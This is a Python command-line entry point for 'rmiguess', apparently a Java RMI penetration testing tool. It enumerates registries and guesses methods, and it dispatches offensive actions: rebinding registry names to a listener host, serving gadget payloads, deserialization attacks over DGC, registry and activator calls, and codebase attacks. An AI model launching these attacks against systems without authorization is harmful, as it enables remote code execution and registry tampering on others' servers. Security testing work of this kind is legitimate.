"""Command line entry point."""

import argparse
import logging
import os
import pathlib
import struct
from collections.abc import Sequence

from rmiguess.actions import ACTION_REQUIREMENTS
from rmiguess.actions import WELL_KNOWN_SIGNATURES
from rmiguess.actions import Action
from rmiguess.actions import validate_action
from rmiguess.attacks import AttackResult
from rmiguess.attacks import CallSite
from rmiguess.attacks import DeserializationAttackBuilder
from rmiguess.candidates import WORDLIST_SUFFIX
from rmiguess.candidates import CandidateRepository
from rmiguess.candidates import MethodCandidate
from rmiguess.candidates import write_wordlist
from rmiguess.classification import ExceptionRecord
from rmiguess.client import RmiClient
from rmiguess.config import ScanConfig
from rmiguess.config import bundled_wordlist_folder
from rmiguess.config import load_properties
from rmiguess.context import ScanContext
from rmiguess.context import filter_bound_names
from rmiguess.dispatch import DispatchStyleResolver
from rmiguess.dispatch import LegacyMode
from rmiguess.enumeration import EnumerationReport
from rmiguess.enumeration import Enumerator
from rmiguess.envelope import DispatchStyle
from rmiguess.errors import ConfigurationError
from rmiguess.errors import RemoteCallError
from rmiguess.errors import RmiGuessError
from rmiguess.gadgets import Gadget
from rmiguess.gadgets import GadgetGenerator
from rmiguess.guessing import GuessingEngine
from rmiguess.guessing import GuessReport
from rmiguess.guessing import GuessTarget
from rmiguess.logs import setup_logging
from rmiguess.objid import ObjID
from rmiguess.serialization import NewObject
from rmiguess.services import WellKnownOperation
from rmiguess.services import RegistryClient
from rmiguess.services import find_operation
from rmiguess.stubs import BoundObject
from rmiguess.stubs import build_remote_stub
from rmiguess.transport import Endpoint

logger: logging.Logger = logging.getLogger(__name__)


class _ArgumentParser(argparse.ArgumentParser):
    def error(self, message: str) -> None:
        raise ConfigurationError(message)


def build_parser() -> argparse.ArgumentParser:
    actions: str = "\n".join(
        f"  {action.value:<10} {' '.join(f'<{arg}>' for arg in requirements.arguments):<26} {requirements.description}"
        for action, requirements in ACTION_REQUIREMENTS.items()
    )
    parser: argparse.ArgumentParser = _ArgumentParser(
        prog="rmiguess",
        description="Identify common misconfigurations on Java RMI endpoints.",
        epilog=f"actions:\n{actions}",
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("host", help="target host (listener address for listen)")
    parser.add_argument("port", type=int, help="registry port (listener port for listen)")
    parser.add_argument("action", nargs="?", default=Action.ENUM.value, help="action to perform (default: enum)")
    parser.add_argument("arguments", nargs="*", help="action specific arguments")

    parser.add_argument("--argument-position", type=int, help="argument slot for deserialization attacks")
    parser.add_argument("--bound-name", help="guess or attack only the given bound name")
    parser.add_argument("--config", help="path to a configuration file")
    parser.add_argument("--dgc-method", help="DGC method for dgc operations (clean|dirty)")
    parser.add_argument("--follow", action="store_true", default=None, help="follow redirects to different hosts")
    parser.add_argument("--force-guessing", action="store_true", default=None, help="guess on known remote classes too")
    legacy: argparse._MutuallyExclusiveGroup = parser.add_mutually_exclusive_group()
    legacy.add_argument("--force-legacy", action="store_true", help="treat all objects as legacy stubs")
    legacy.add_argument("--no-legacy", action="store_true", help="disable legacy dispatch detection")
    parser.add_argument("--localhost-bypass", action="store_true", default=None, help="send registry writes hash addressed")
    parser.add_argument("--no-color", action="store_true", help="disable colored output")
    parser.add_argument("--objid", type=int, help="address an object number instead of a bound name")
    parser.add_argument("--payload-file", help="use serialized payload bytes from a file instead of the generator")
    parser.add_argument("--reg-method", help="registry method for reg operations (lookup|bind|unbind|rebind)")
    parser.add_argument("--signature", help="method signature or one of dgc|reg|act")
    parser.add_argument("--ssl", action="store_true", default=None, help="use TLS for the registry connection")
    parser.add_argument("--stack-trace", action="store_true", help="log remote exception cause chains")
    parser.add_argument("--threads", type=int, help="number of guessing threads")
    parser.add_argument("--timeout", type=float, help="socket timeout in seconds")
    parser.add_argument("--trusted", action="store_true", help="disable bound name filtering")
    parser.add_argument("--update", action="store_true", default=None, help="rewrite wordlists with precomputed hashes")
    parser.add_argument("--verbose", action="store_true", help="log debug messages")
    parser.add_argument("--wordlist-file", help="wordlist file for method guessing")
    parser.add_argument("--wordlist-folder", help="folder with wordlist files")
    parser.add_argument("--yso", help="path of the gadget generator jar")
    parser.add_argument("--zero-arg", action="store_true", default=None, help="also guess zero argument methods")
    return parser


def _legacy_mode(args: argparse.Namespace) -> LegacyMode:
    if args.force_legacy is True:
        return LegacyMode.FORCE_LEGACY
    if args.no_legacy is True:
        return LegacyMode.NEVER_LEGACY
    return LegacyMode.AUTO


def build_config(args: argparse.Namespace) -> ScanConfig:
    """Merge bundled defaults, the configuration file and command line options."""
    return ScanConfig.from_properties(
        load_properties(args.config),
        threads=args.threads,
        timeout=args.timeout,
        reg_method=args.reg_method,
        dgc_method=args.dgc_method,
        ssl=args.ssl,
        follow=args.follow,
        legacy_mode=_legacy_mode(args),
        argument_position=args.argument_position,
        signature=args.signature,
        bound_name=args.bound_name,
        objid=args.objid,
        wordlist_file=args.wordlist_file,
        wordlist_folder=args.wordlist_folder,
        generator_path=args.yso,
        zero_arg=args.zero_arg,
        force_guessing=args.force_guessing,
        localhost_bypass=args.localhost_bypass,
        update=args.update,
    )


class Session:
    """Objects shared by all actions of one run."""

    config: ScanConfig
    context: ScanContext
    endpoint: Endpoint
    client: RmiClient
    resolver: DispatchStyleResolver
    payload_file: str | None

    def __init__(self, config: ScanConfig, context: ScanContext, endpoint: Endpoint, payload_file: str | None = None) -> None:
        self.config = config
        self.context = context
        self.endpoint = endpoint
        self.client = RmiClient(config.timeout, config.threads)
        self.resolver = DispatchStyleResolver(self.client, config.legacy_mode)
        self.payload_file = payload_file

    def registry(self) -> RegistryClient:
        return RegistryClient(self.client, self.endpoint, self.config.localhost_bypass)

    def engine(self) -> GuessingEngine:
        return GuessingEngine(
            self.client,
            self.resolver,
            threads=self.config.threads,
            follow=self.config.follow,
            force_guessing=self.config.force_guessing,
        )

    def gadget(self, positionals: list[str]) -> Gadget:
        if self.payload_file is not None:
            return Gadget.from_file(self.payload_file)
        if self.config.generator_path is None:
            raise ConfigurationError("No gadget generator configured (use --yso or --payload-file)")
        generator: GadgetGenerator = GadgetGenerator(self.config.generator_path, self.config.java)
        return generator.generate(positionals[0], positionals[1])

    def method_target(self) -> GuessTarget:
        """Endpoint and ObjID of the object selected by --objid or --bound-name."""
        if self.config.objid is not None:
            return GuessTarget(f"objid {self.config.objid}", self.endpoint, ObjID(self.config.objid))
        name: str = self.config.bound_name or ""
        engine: GuessingEngine = self.engine()
        registry: RegistryClient = self.registry()
        bound: BoundObject = engine.lookup(registry, name)
        target: GuessTarget | None = engine.target_for(registry, bound)
        if target is None:
            raise ConfigurationError(f"Bound name {name!r} does not carry a remote reference")
        return target

    def method_site(self) -> tuple[Endpoint, CallSite]:
        candidate: MethodCandidate = MethodCandidate.from_signature(self.config.signature or "")
        target: GuessTarget = self.method_target()
        style: DispatchStyle = self.resolver.resolve(target.endpoint, target.objid)
        return target.endpoint, CallSite.for_candidate(target.objid, candidate, style)

    def well_known_site(self, service: str) -> CallSite:
        name: str = "activate"
        if service == "reg":
            name = self.config.reg_method
        elif service == "dgc":
            name = self.config.dgc_method
        operation: WellKnownOperation = find_operation(service, name)
        modern: bool = service == "reg" and self.config.localhost_bypass is True and name != "lookup"
        return CallSite.for_operation(operation, modern=modern)


def _log_enumeration(report: EnumerationReport) -> None:
    logger.info("Registry %s has %d bound names", report.endpoint, len(report.bound_names))
    for bound in report.bound_objects:
        logger.info("  - %s", bound.name)
        logger.info("      classes: %s%s", ", ".join(bound.class_names), " (legacy stub)" if bound.is_legacy_stub else "")
        if bound.reference is not None:
            logger.info(
                "      endpoint: %s:%d  objid: %s%s",
                bound.reference.host,
                bound.reference.port,
                bound.reference.objid,
                "  tls" if bound.reference.uses_tls else "",
            )
    for name, error in report.lookup_errors.items():
        logger.warning("  - %s: lookup failed: %s", name, error)
    for check in report.checks:
        if check.vulnerable is True:
            logger.warning("%s: %s (vulnerable)", check.name, check.verdict)
        elif check.vulnerable is False:
            logger.info("%s: %s", check.name, check.verdict)
        else:
            logger.info("%s: %s (undecided)", check.name, check.verdict)


def _log_guesses(report: GuessReport) -> None:
    for name, hits in report.hits().items():
        if len(hits) == 0:
            logger.info("%s: no methods found", name)
            continue
        logger.info("%s: %d methods found", name, len(hits))
        for hit in hits:
            logger.info("  - %s (%s)", hit.candidate, hit.outcome.value)
    for name, reason in report.skipped.items():
        logger.info("%s: skipped (%s)", name, reason)
    for name, reason in report.unreachable.items():
        logger.error("%s: unreachable (%s)", name, reason)
    errors: int = len(report.errors())
    if errors > 0:
        logger.warning("%d probes ended with an unclassified error", errors)


def _log_attack(result: AttackResult, context: ScanContext) -> None:
    exception: ExceptionRecord | None = result.outcome.exception
    if exception is not None and context.stack_trace is True:
        logger.info("cause chain: %s", " <- ".join(str(item) for item in exception.chain()))


def load_repository(config: ScanConfig) -> CandidateRepository:
    """Load candidates as configured, rewriting wordlists with hashes when ``update`` is set.

    Without a configured wordlist the bundled ones are used.

    :raises ConfigurationError: If a configured wordlist is missing.
    """
    if config.wordlist_file is not None:
        repository: CandidateRepository = CandidateRepository.from_file(config.wordlist_file, config.zero_arg)
        if config.update is True:
            write_wordlist(config.wordlist_file, CandidateRepository.from_file(config.wordlist_file, True))
        return repository
    if config.wordlist_folder is not None:
        if config.update is True:
            for path in sorted(pathlib.Path(config.wordlist_folder).glob(f"*{WORDLIST_SUFFIX}")):
                write_wordlist(path, CandidateRepository.from_file(path, True))
        return CandidateRepository.from_folder(config.wordlist_folder, config.zero_arg)
    logger.info("No wordlist configured, using the bundled wordlists")
    return CandidateRepository.from_folder(bundled_wordlist_folder(), config.zero_arg)


def _listener_address(text: str) -> tuple[str, int]:
    host, separator, port = text.rpartition(":")
    if separator == "" or len(host) == 0 or port.isdigit() is False:
        raise ConfigurationError(f"Listener must be given as host:port, got {text!r}")
    return host, int(port)


def run_action(action: Action, session: Session, positionals: list[str]) -> int:
    """Run one action.

    :returns: Process exit code.
    :raises RmiGuessError: On configuration, protocol or remote failures.
    """
    config: ScanConfig = session.config
    if action is Action.ENUM:
        _log_enumeration(Enumerator(session.client, session.endpoint, session.context).run())
        return 0

    if action is Action.GUESS:
        repository: CandidateRepository = load_repository(config)
        logger.info("Loaded %d candidates (%d zero-argument skipped)", len(repository), repository.skipped_zero_arg)
        engine: GuessingEngine = session.engine()
        if config.objid is not None:
            target: GuessTarget = GuessTarget(f"objid {config.objid}", session.endpoint, ObjID(config.objid))
            _log_guesses(engine.guess([target], repository))
            return 0
        registry: RegistryClient = session.registry()
        names: list[str] = [config.bound_name] if config.bound_name is not None else registry.list()
        _log_guesses(engine.guess_names(registry, filter_bound_names(names, session.context), repository))
        return 0

    if action in (Action.BIND, Action.REBIND):
        host, port = _listener_address(positionals[1])
        object_number: int = struct.unpack(">q", os.urandom(8))[0]
        stub: NewObject = build_remote_stub(host, port, ObjID(object_number))
        registry = session.registry()
        if action is Action.BIND:
            registry.bind(positionals[0], stub)
        else:
            registry.rebind(positionals[0], stub)
        logger.info("%s now points to %s:%d", positionals[0], host, port)
        return 0

    if action is Action.UNBIND:
        session.registry().unbind(positionals[0])
        logger.info("Removed %s", positionals[0])
        return 0

    if action is Action.LISTEN:
        if config.generator_path is None:
            raise ConfigurationError("No gadget generator configured (use --yso)")
        generator: GadgetGenerator = GadgetGenerator(config.generator_path, config.java)
        return generator.listen(session.endpoint.port, positionals[0], positionals[1])

    builder: DeserializationAttackBuilder = DeserializationAttackBuilder(session.client)
    endpoint: Endpoint = session.endpoint
    site: CallSite
    if action in (Action.DGC, Action.REG, Action.ACT):
        site = session.well_known_site(action.value)
    elif config.signature in WELL_KNOWN_SIGNATURES:
        site = session.well_known_site(config.signature)
    else:
        endpoint, site = session.method_site()

    if action is Action.CODEBASE:
        result: AttackResult = builder.codebase_attack(endpoint, site, positionals[1], positionals[0], config.argument_position)
    else:
        result = builder.attack(endpoint, site, session.gadget(positionals), config.argument_position)
    _log_attack(result, session.context)
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    """Parse arguments, run the requested action and map errors to exit code 1.

    :param argv: Arguments without the program name, ``sys.argv`` when ``None``.
    :returns: Process exit code.
    """
    parser: argparse.ArgumentParser = build_parser()
    try:
        args: argparse.Namespace = parser.parse_args(argv)
    except ConfigurationError as exc:
        setup_logging()
        logger.error("%s", exc)
        parser.print_usage()
        return 1

    context: ScanContext = ScanContext(args.trusted, args.stack_trace, args.no_color is False)
    setup_logging(args.verbose, context.color)
    try:
        try:
            action: Action = Action(args.action)
        except ValueError as exc:
            raise ConfigurationError(f"Unsupported action {args.action!r}") from exc
        validate_action(action, list(args.arguments), vars(args))
        config: ScanConfig = build_config(args)
        session: Session = Session(config, context, Endpoint(args.host, args.port, config.ssl), args.payload_file)
        return run_action(action, session, list(args.arguments))
    except RemoteCallError as exc:
        logger.error("Remote call failed: %s", exc)
        return 1
    except RmiGuessError as exc:
        logger.error("%s", exc)
        return 1
